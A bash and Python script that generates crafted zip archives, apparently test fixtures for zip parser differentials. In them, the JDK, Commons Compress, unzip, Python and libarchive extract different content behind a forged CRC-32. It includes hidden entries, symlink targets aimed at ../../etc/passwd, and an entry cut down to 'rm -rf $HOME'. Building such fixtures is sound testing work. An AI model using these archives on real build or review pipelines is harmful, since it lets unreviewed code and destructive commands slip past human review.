#!/usr/bin/env bash
# Zips whose end records lead two readers to two different central directories. The JDK trusts
# a zip64 end record only where the 32-bit one agrees with it (or holds the 0xFFFF... marks) and
# finds the central directory just before the record it trusts; Commons Compress follows a zip64
# locator whenever there is one, to the offset it names; Info-ZIP's unzip checks the disk fields
# too; Python's zipfile reads the 56 bytes before the locator. Each attack holds one entry,
# a.txt, the same name, size and CRC-32 to every reader (the CRC is forged), and two different
# contents: "reviewed" to some readers, "evil" to others. Also the honest shape they are told
# apart from (a zip64 zip from Info-ZIP's zip -fz) and zips with bytes the central directory does
# not account for. Deterministic; run by make.sh, or alone
# (Debian: apt-get install zip python3).
set -euo pipefail
cd "$(dirname "$0")"
mkdir -p out
O=$(pwd)/out
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
export TZ=UTC LC_ALL=C

# The honest zip64 shape, from the real tool: zip64 extra fields and a zip64 end record.
printf 'reviewed content, zip64 end record\n' > "$tmp/a.txt"
printf 'second entry\n' > "$tmp/b.txt"
touch -d 2026-01-01T00:00:00Z "$tmp/a.txt" "$tmp/b.txt"
rm -f "$O/zip64-forced.zip"
(cd "$tmp" && zip -q -X -fz "$O/zip64-forced.zip" a.txt b.txt)

python3 - "$O" <<'PY'
import struct, sys, zlib
out = sys.argv[1]

TABLE = []
for i in range(256):
    c = i
    for _ in range(8):
        c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
    TABLE.append(c)
TOP = {t >> 24: i for i, t in enumerate(TABLE)}

def forge(data, wanted):
    """data + 4 bytes whose CRC-32 is wanted: CRC-32 is linear, anyone can do this."""
    idx, reg = [], wanted ^ 0xFFFFFFFF
    for _ in range(4):                      # walk back: the top byte names the table index
        i = TOP[reg >> 24]
        idx.append(i)
        reg = ((reg ^ TABLE[i]) << 8) & 0xFFFFFFFF
    reg, tail = zlib.crc32(data) ^ 0xFFFFFFFF, bytearray()
    for i in reversed(idx):                 # and forward, choosing each byte to hit the index
        tail.append((reg ^ i) & 0xFF)
        reg = (reg >> 8) ^ TABLE[i]
    forged = data + bytes(tail)
    assert zlib.crc32(forged) == wanted
    return forged

NAME = b"a.txt"
# 68 bytes, so that the zip64 end record of attack 1 lies at offset 257: its locator, in a
# comment, is then valid UTF-8, which the JDK requires of comments.
REVIEWED = b"reviewed content: the build that the reviewers read, line by line!\n\n"
EVIL = forge(b"evil content: a build nobody reviewed, with a payload inside!!!\n",
             zlib.crc32(REVIEWED))
assert len(EVIL) == len(REVIEWED)
CRC = zlib.crc32(REVIEWED)
DOS_TIME, DOS_DATE = 0, (2026 - 1980) << 9 | 1 << 5 | 1

def local(data):
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, DOS_TIME, DOS_DATE, CRC,
                       len(data), len(data), len(NAME), 0) + NAME + data

def central(offset, comment=b""):
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x314, 20, 0, 0, DOS_TIME, DOS_DATE,
                       CRC, len(REVIEWED), len(REVIEWED), len(NAME), 0, len(comment), 0, 0,
                       0o644 << 16, offset) + NAME + comment

def zip64_end(cd_size, cd_offset, length=44, on_disk=1):
    return struct.pack("<IQHHIIQQQQ", 0x06064B50, length, 45, 45, 0, 0, on_disk, 1, cd_size,
                       cd_offset)

def zip64_locator(end_offset):
    return struct.pack("<IIQI", 0x07064B50, 0, end_offset, 1)

def end(cd_size, cd_offset, count=1, on_disk=None):
    on_disk = count if on_disk is None else on_disk
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, on_disk, count, cd_size, cd_offset, 0)

loc_r, loc_e = local(REVIEWED), local(EVIL)

# 1. [reviewed][evil][CD -> reviewed][zip64 end -> that CD][CD -> evil][end -> that CD], the
# zip64 locator hidden in the comment of the last central record, right before the 32-bit end
# record. The two end records disagree, so the JDK takes the 32-bit one (evil); the locator is
# there, so Commons Compress takes the zip64 one (reviewed).
cd_r = central(0)
pos_cd_r = len(loc_r) + len(loc_e)
pos_z64 = pos_cd_r + len(cd_r)
z64 = zip64_end(len(cd_r), pos_cd_r)
pos_cd_e = pos_z64 + len(z64)
cd_e = central(len(loc_r), zip64_locator(pos_z64))
zip64_locator(pos_z64).decode("utf-8")
data = loc_r + loc_e + cd_r + z64 + cd_e + end(len(cd_e), pos_cd_e)
open(f"{out}/zip-dual-end-records.zip", "wb").write(data)

# 2. One zip64 end record both readers trust (the 32-bit fields all say "see zip64"), whose
# offset names one central directory while the record itself sits after another:
# [reviewed][evil][CD -> offset 0][6 bytes][CD -> offset 0][zip64 end][locator][end]. Commons
# Compress reads the directory at the named offset (reviewed, at 0); the JDK reads the one just
# before the record and takes the difference as bytes prepended to the zip (evil, at 103).
cd_first, cd_second = central(0), central(0)
junk = b"-" * (len(loc_r) - len(cd_first))         # so that the prefix lands on evil
pos_first = len(loc_r) + len(loc_e)
pos_second = pos_first + len(cd_first) + len(junk)
assert pos_second - pos_first == len(loc_r), "the JDK's prefix must land on the evil entry"
pos_z64 = pos_second + len(cd_second)
data = (loc_r + loc_e + cd_first + junk + cd_second
        + zip64_end(len(cd_second), pos_first) + zip64_locator(pos_z64)
        + end(0xFFFFFFFF, 0xFFFFFFFF, 0xFFFF))
open(f"{out}/zip64-offset-elsewhere.zip", "wb").write(data)

# 3. Two zip64 extra fields in one central record, each with another local header offset (the
# 32-bit one says "see zip64"). The JDK, Commons Compress, Python and Info-ZIP all take the first
# (reviewed); a field may appear once, and a reader that takes the last sees evil.
cd = central(0xFFFFFFFF)
z64a = struct.pack("<HHQ", 1, 8, 0)
z64b = struct.pack("<HHQ", 1, 8, len(loc_r))
extra = z64a + z64b
cd = cd[:30] + struct.pack("<H", len(extra)) + cd[32:] + extra
data = loc_r + loc_e + cd + end(len(cd), len(loc_r) + len(loc_e))
open(f"{out}/zip64-two-extra-fields.zip", "wb").write(data)

# 4. A zip64 end record whose length field claims "extensible data" up to the locator; in it lie
# an evil entry, its central directory and a second zip64 end record, the 56 bytes right before
# the locator. The JDK, Commons Compress and unzip follow the locator (reviewed); Python's
# zipfile reads the 56 bytes before the locator as the record (evil).
cd_r = central(0)
pos_r1 = len(loc_r) + len(cd_r)
pos_le = pos_r1 + 56
cd_e = central(pos_le)
pos_cd_e = pos_le + len(loc_e)
ext = loc_e + cd_e + zip64_end(len(cd_e), pos_cd_e)
data = (loc_r + cd_r + zip64_end(len(cd_r), len(loc_r), 44 + len(ext)) + ext
        + zip64_locator(pos_r1) + end(0xFFFFFFFF, 0xFFFFFFFF, 0xFFFF))
assert data.index(zip64_locator(pos_r1)) == pos_cd_e + len(cd_e) + 56
open(f"{out}/zip64-record-before-locator.zip", "wb").write(data)

# 5. A zip64 zip whose 32-bit end record agrees with the zip64 one on size, offset and total but
# not on the entries on this disk (2, against 1): the JDK, Commons Compress and Python take the
# zip64 record; Info-ZIP's unzip checks that field too, falls back to the 32-bit record and takes
# the zip64 end record and locator for a prefix, so that a second directory placed to match (in a
# comment, say) is the one it reads.
cd = central(0)
pos_z64 = len(loc_r) + len(cd)
data = (loc_r + cd + zip64_end(len(cd), len(loc_r)) + zip64_locator(pos_z64)
        + end(len(cd), len(loc_r), 1, on_disk=2))
open(f"{out}/zip64-disk-fields.zip", "wb").write(data)

# 6. Bytes no record accounts for: an entry between the last listed one and the central
# directory (a stream reader would see it), and bytes after the end record.
cd = central(0)
data = loc_r + loc_e + cd + end(len(cd), len(loc_r) + len(loc_e))
open(f"{out}/zip-hidden-entry.zip", "wb").write(data)
cd = central(0)
data = loc_r + cd + end(len(cd), len(loc_r)) + b"appended after the end record\n"
open(f"{out}/zip-trailing-bytes.zip", "wb").write(data)

# --- Readers of local headers (the JDK's ZipInputStream, libarchive/bsdtar on a pipe, 7z,
# Info-ZIP's unzip for some fields) against readers of the central directory. ---

def local_raw(name, data, crc, csize, usize, flags=0, method=0, extra=b""):
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, flags, method, DOS_TIME, DOS_DATE, crc,
                       csize, usize, len(name), len(extra)) + name + extra + data

def central_raw(name, crc, csize, usize, offset, flags=0, method=0):
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x314, 45, flags, method, DOS_TIME,
                       DOS_DATE, crc, csize, usize, len(name), 0, 0, 0, 0, 0o644 << 16,
                       offset) + name

def one_zip(path, locals_, centrals):
    body = b"".join(locals_)
    cd = b"".join(centrals)
    open(path, "wb").write(body + cd + end(len(cd), len(body), len(centrals)))

# 7. The local header holds the zip64 marks and a zip64 field with a shorter size (and the CRC of
# that prefix); the central record is plain. Readers of local headers extract the prefix.
full = b"rm -rf $HOME/.cache/app\n"
prefix = full[:len(b"rm -rf $HOME")] + b"\n"
z64 = struct.pack("<HHQQ", 1, 16, len(prefix), len(prefix))
lh = local_raw(NAME, full, zlib.crc32(prefix), 0xFFFFFFFF, 0xFFFFFFFF, extra=z64)
one_zip(f"{out}/zip-local-zip64-sizes.zip", [lh],
        [central_raw(NAME, zlib.crc32(full), len(full), len(full), 0)])

# 8. A deflate stream that ends before the entry's compressed size; in the bytes left lies a local
# entry b.txt (evil), which readers of local headers take for the next entry and extract over
# the honest b.txt listed first.
def deflate(data):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()
good_b, a_body = b"honest b\n", b"the a entry\n" * 4
lb = local_raw(b"b.txt", good_b, zlib.crc32(good_b), len(good_b), len(good_b))
hidden = local_raw(b"b.txt", EVIL, CRC, len(EVIL), len(EVIL))
a_data = deflate(a_body) + hidden
la = local_raw(b"a.txt", a_data, zlib.crc32(a_body), len(a_data), len(a_body), method=8)
one_zip(f"{out}/zip-deflate-ends-early.zip", [lb, la],
        [central_raw(b"b.txt", zlib.crc32(good_b), len(good_b), len(good_b), 0),
         central_raw(b"a.txt", zlib.crc32(a_body), len(a_data), len(a_body), len(lb), method=8)])

# 9. General purpose bit 3 (a data descriptor follows) and no descriptor after the data.
d = deflate(REVIEWED)
lh = local_raw(NAME, d, 0, 0, 0, flags=8, method=8)
one_zip(f"{out}/zip-descriptor-missing.zip", [lh],
        [central_raw(NAME, CRC, len(d), len(REVIEWED), 0, flags=8, method=8)])

# 10. Stored data with a data descriptor, holding a descriptor's signature with the CRC and size
# of a prefix: libarchive 3.6 on a pipe ends the entry there and reads what follows as an entry.
pre = b"reviewed\n"
inner = pre + struct.pack("<IIII", 0x08074B50, zlib.crc32(pre), len(pre), len(pre)) + hidden
desc = struct.pack("<IIII", 0x08074B50, zlib.crc32(inner), len(inner), len(inner))
lh = local_raw(NAME, inner + desc, 0, 0, 0, flags=8)
body = lh
cd = central_raw(NAME, zlib.crc32(inner), len(inner), len(inner), 0, flags=8)
open(f"{out}/zip-stored-descriptor-inside.zip", "wb").write(body + cd + end(len(cd), len(body)))

# 11. Twenty zero bytes after an entry with no data descriptor: the JDK's ZipInputStream stops
# listing there and never sees b.txt.
la = local_raw(b"a.txt", REVIEWED, CRC, len(REVIEWED), len(REVIEWED))
lb = local_raw(b"b.txt", good_b, zlib.crc32(good_b), len(good_b), len(good_b))
gap = b"\0" * 20
one_zip(f"{out}/zip-gap-after-entry.zip", [la, gap, lb],
        [central_raw(b"a.txt", CRC, len(REVIEWED), len(REVIEWED), 0),
         central_raw(b"b.txt", zlib.crc32(good_b), len(good_b), len(good_b), len(la) + 20)])

# 12. Two names for one file: 'a.txt' and './a.txt' (Python's extractall, unzip and 7z write the
# second over the first); and a name flagged UTF-8, '├⌐.txt', beside the bytes of 'é.txt' with
# no flag, which Python decodes as CP437 into that same '├⌐.txt'.
la = local_raw(b"a.txt", REVIEWED, CRC, len(REVIEWED), len(REVIEWED))
le = local_raw(b"./a.txt", EVIL, CRC, len(EVIL), len(EVIL))
one_zip(f"{out}/zip-dot-segment-name.zip", [la, le],
        [central_raw(b"a.txt", CRC, len(REVIEWED), len(REVIEWED), 0),
         central_raw(b"./a.txt", CRC, len(EVIL), len(EVIL), len(la))])
flagged = "├⌐.txt".encode("utf-8")
plain = "é.txt".encode("utf-8")
la = local_raw(flagged, REVIEWED, CRC, len(REVIEWED), len(REVIEWED), flags=0x800)
le = local_raw(plain, EVIL, CRC, len(EVIL), len(EVIL))
one_zip(f"{out}/zip-cp437-name.zip", [la, le],
        [central_raw(flagged, CRC, len(REVIEWED), len(REVIEWED), 0, flags=0x800),
         central_raw(plain, CRC, len(EVIL), len(EVIL), len(la))])

# 13. More readers that part ways. A directory entry holding data (the JDK, Python and unzip -p
# return it; extracting readers make an empty directory). A deflate stream one byte longer than
# the record, its last byte (0) left out: zlib takes the padding byte readers feed it for that
# byte, while the JDK's ZipInputStream, libarchive and 7z fail. Stored data with a descriptor
# that has no signature (libarchive on a pipe cannot find its end). A name without '/' whose Unix
# mode says directory. A symlink whose target is longer than any system's limit. Data whose
# CRC-32 is not the record's.
def central_mode(name, crc, csize, usize, offset, mode, flags=0, method=0):
    c = central_raw(name, crc, csize, usize, offset, flags, method)
    return c[:38] + struct.pack("<I", mode << 16) + c[42:]

data = b"evil data"
ld = local_raw(b"d/", data, zlib.crc32(data), len(data), len(data))
one_zip(f"{out}/zip-directory-with-data.zip", [ld],
        [central_mode(b"d/", zlib.crc32(data), len(data), len(data), 0, 0o40755)])

for i in range(10000):
    body = b"class body %d\n" % i
    d = deflate(body)
    if d[-1] == 0:
        break
assert d[-1] == 0
cut = d[:-1]
la = local_raw(b"A.class", cut, zlib.crc32(body), len(cut), len(body), method=8)
one_zip(f"{out}/zip-deflate-one-byte-short.zip", [la],
        [central_raw(b"A.class", zlib.crc32(body), len(cut), len(body), 0, method=8)])

desc = struct.pack("<III", CRC, len(REVIEWED), len(REVIEWED))
lh = local_raw(NAME, REVIEWED + desc, 0, 0, 0, flags=8)
one_zip(f"{out}/zip-stored-descriptor-unsigned.zip", [lh],
        [central_raw(NAME, CRC, len(REVIEWED), len(REVIEWED), 0, flags=8)])

lh = local_raw(b"d", REVIEWED, CRC, len(REVIEWED), len(REVIEWED))
one_zip(f"{out}/zip-mode-says-directory.zip", [lh],
        [central_mode(b"d", CRC, len(REVIEWED), len(REVIEWED), 0, 0o40755)])

target = b"a" * 4096 + b"/../../etc/passwd"
lh = local_raw(b"lnk", target, zlib.crc32(target), len(target), len(target))
one_zip(f"{out}/zip-link-target-long.zip", [lh],
        [central_mode(b"lnk", zlib.crc32(target), len(target), len(target), 0, 0o120777)])

target = b"safe/target\0/../../etc/passwd"
lh = local_raw(b"lnk", target, zlib.crc32(target), len(target), len(target))
one_zip(f"{out}/zip-link-target-nul.zip", [lh],
        [central_mode(b"lnk", zlib.crc32(target), len(target), len(target), 0, 0o120777)])

lh = local_raw(NAME, EVIL, CRC ^ 1, len(EVIL), len(EVIL))
one_zip(f"{out}/zip-crc-mismatch.zip", [lh],
        [central_raw(NAME, CRC ^ 1, len(EVIL), len(EVIL), 0)])
PY
